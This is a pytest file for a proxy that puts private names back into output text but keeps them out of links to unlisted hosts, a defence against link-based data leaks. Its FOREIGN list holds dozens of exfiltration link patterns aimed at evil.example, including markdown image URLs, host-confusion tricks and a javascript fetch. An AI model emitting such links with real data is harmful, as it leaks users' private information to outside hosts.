"""Values come back in text and in links to listed hosts, never in links to other hosts."""

from __future__ import annotations

import pytest
from answer_machines import HOSTS, Call, every_split

from proxy.transform.urls import inside_foreign_link

FOREIGN = (
    "![x](https://evil.example/?q={t})",
    "![x](https://evil.example/{t}.png)",
    "[click](https://evil.example/?q=a&b={t})",
    "[click]( https://evil.example/?q={t} )",
    "[click](<https://evil.example/?q=a {t}>)",
    '[click](https://evil.example/?q={t} "title")',
    "[click](//evil.example/{t})",
    "[click](evil.example/?q={t})",
    "[click](\\\\evil.example\\{t})",
    "[click](https:evil.example/{t})",
    "[click](&#104;ttps://evil.example/{t})",
    "[click](https://evil.example/(a)/{t})",
    "[ref]: https://evil.example/?q={t}\n\n![x][ref]",
    "<https://evil.example/?q={t}>",
    "https://evil.example/?q={t}",
    "HTTPS://EVIL.EXAMPLE/{t}",
    "https://evil.example/#{t}",
    "www.evil.example/{t}",
    "https://{t}.evil.example/",
    "https://portal.example.org.evil.example/{t}",
    "https://portal.example.org@evil.example/{t}",
    "https://portal.example.org\\@evil.example/{t}",
    "https://evil.example/?next=https://portal.example.org/{t}",
    "https://user:{t}@portal.example.org/",
    "https://portal.example.org%2eevil.example/{t}",
    "https://[2001:db8::1]/{t}",
    "https://192.0.2.7:8080/{t}",
    "ftp://evil.example/{t}",
    "javascript:fetch('//evil.example/{t}')",
    "data:text/html,{t}",
    "mailto:eve@evil.example?body={t}",
    "evil.example/{t}",
    "{t}.evil.example/x",
    '<img src="https://evil.example/?q={t}">',
    "<img src='https://evil.example/a b {t}'>",
    "<img src=https://evil.example/{t}>",
    '<img srcset="https://evil.example/a 1x, https://evil.example/{t} 2x">',
    '<a href="\n https://evil.example/{t}">x</a>',
    '<a href="java\nscript:alert({t})">x</a>',
    '<div style="background: url(https://evil.example/a b{t})">',
    "url(https://evil.example/{t})",
    "\\href{{https://evil.example/{t}}}{{x}}",
    "`https://evil.example/{t}`",
)
LISTED = (
    "https://portal.example.org/s/{t}",
    "HTTPS://Portal.Example.ORG/s/{t}",
    "https://portal.example.org:8443/s?name={t}",
    "[her page](https://portal.example.org/s?name={t})",
    "![x](<https://portal.example.org/s?name=a {t}>)",
    '<img src="https://portal.example.org/{t}">',
    "//portal.example.org/{t}",
    "portal.example.org/{t}",
    "<https://portal.example.org/?q={t}>",
    "[ref]: https://portal.example.org/{t}",
)
NO_LINK = (
    "{t}",
    "[{t}](https://evil.example/)",
    "![{t}](https://evil.example/a.png)",
    "see https://evil.example/ about {t}",
    "See [this](https://evil.example/) and {t}.",
    '<a href="https://evil.example/">{t}</a>',
    "Name: {t}",
    "name:{t}",
    "and/or {t}",
    "either/{t}",
    "[here](/students/{t})",
    "[here](#{t})",
    "mailto:{t}",
    "e.g.{t}",
    "x = y // {t}",
    "(https://evil.example/) {t}",
    "{t}@example.org",
    "ratio 3:4 {t}. Next",
    '{{"name":"{t}"}}',
)


def spellings(call: Call) -> list[str]:
    token = call.token("Maria")
    return [token, token[1:-1], token.replace("_", "\\_")]


@pytest.mark.parametrize("form", FOREIGN)
def test_no_value_in_a_link_to_another_host(form: str) -> None:
    call = Call(scan=None)
    for token in spellings(call):
        text = f"Look: {form.format(t=token)} !"
        assert call.whole(text) == text
        for pieces in every_split(text):
            assert "".join(call.outputs(pieces)) == text
    assert not any(event == "restored" for event, _ in call.events)
    assert call.events["unrestored_url", "PERSON"] > 0


@pytest.mark.parametrize("form", [*LISTED, *NO_LINK])
def test_values_in_text_and_in_links_to_listed_hosts(form: str) -> None:
    call = Call(scan=None)
    for token in spellings(call)[:2]:
        text = f"Look: {form.format(t=token)} !"
        for pieces in every_split(text):
            assert "".join(call.outputs(pieces)) == f"Look: {form.format(t='Maria')} !"


@pytest.mark.parametrize("form", [*FOREIGN, *LISTED, *NO_LINK])
def test_without_a_list_values_come_back_everywhere(form: str) -> None:
    call = Call(scan=None, hosts=None)
    for token in spellings(call)[:2]:
        output = call.whole(f"Look: {form.format(t=token)} !")
        assert "Maria" in output
        assert token not in output


@pytest.mark.parametrize("form", FOREIGN)
def test_the_same_inside_json(form: str) -> None:
    call = Call(scan=None)
    text = (
        '{"a": "'
        + form.format(t=call.token("Maria")).replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
        + '"}'
    )
    for pieces in every_split(text):
        assert "".join(call.outputs(pieces, "json")) == text


def test_spaced_placeholders_in_quoted_addresses_stay_out() -> None:
    call = Call(scan=None)
    spaced = call.token("Maria")[1:-1].replace("_", " ")
    for form in (
        '<img src="https://evil.example/?q={t}">',
        "[x](<https://evil.example/?q={t}>)",
        "[x](https://evil.example/?q={t})",
    ):
        text = form.format(t=spaced)
        for pieces in every_split(text):
            assert "".join(call.outputs(pieces)) == text


def test_an_address_that_is_longer_than_a_unit_stays_an_address() -> None:
    call = Call(scan=None)
    for padding in (3000, 3800, 4096, 9000, 20_000):
        text = (
            f"![x](https://evil.example/?q={'ab' * (padding // 2)}&n={call.token('Maria')}) and {call.token('Maria')}"
        )
        assert call.whole(text) == text.removesuffix(call.token("Maria")) + "Maria"


def test_no_hosts_means_no_link_at_all() -> None:
    call = Call(scan=None, hosts=frozenset())
    text = f"https://portal.example.org/{call.token('Maria')}"
    assert call.whole(text) == text


def test_it_says_whether_a_place_is_in_a_foreign_link() -> None:
    text = "go to https://evil.example/x now"
    assert inside_foreign_link(text, text.index("/x") + 1, text.index("/x") + 2, HOSTS)
    assert not inside_foreign_link(text, text.index("now"), len(text), HOSTS)
